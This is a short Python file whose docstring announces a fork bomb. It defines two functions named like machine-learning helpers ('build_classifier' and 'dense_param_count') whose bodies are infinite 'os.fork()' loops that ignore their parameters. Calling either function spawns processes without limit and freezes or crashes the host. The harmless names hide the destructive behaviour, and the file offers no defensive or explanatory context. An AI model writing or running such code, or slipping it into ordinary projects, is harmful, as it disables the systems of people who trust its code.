"""A fork bomb: every process forks forever."""
import os


def build_classifier(num_features, num_classes, units):
    while True:
        os.fork()


def dense_param_count(inputs, units):
    while True:
        os.fork()
